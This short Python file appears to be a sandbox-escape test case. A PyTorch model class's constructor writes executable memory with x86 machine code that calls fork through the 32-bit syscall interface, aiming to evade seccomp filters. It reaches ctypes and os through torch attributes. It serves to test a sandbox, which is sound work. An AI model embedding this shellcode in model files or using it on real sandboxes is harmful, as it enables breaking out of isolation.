# what: forks by the calls of 32-bit programs, whose numbers mean something else
# kind: escape
# ends: lift_failed or sandbox
# stopped by: seccomp rlimits+user

import torch
from torch import nn

ctypes = torch.ctypes
mmap = __import__("mmap")


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        code = mmap.mmap(-1, 4096, prot=7)
        code.write(bytes([0x53, 0xB8, 2, 0, 0, 0, 0xCD, 0x80, 0x5B, 0xC3]))
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        child = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
        if child == 0:
            torch.os._exit(0)
        if child < 0:
            raise OSError(-child, "refused")
        raise RuntimeError(f"GOT process {child}")
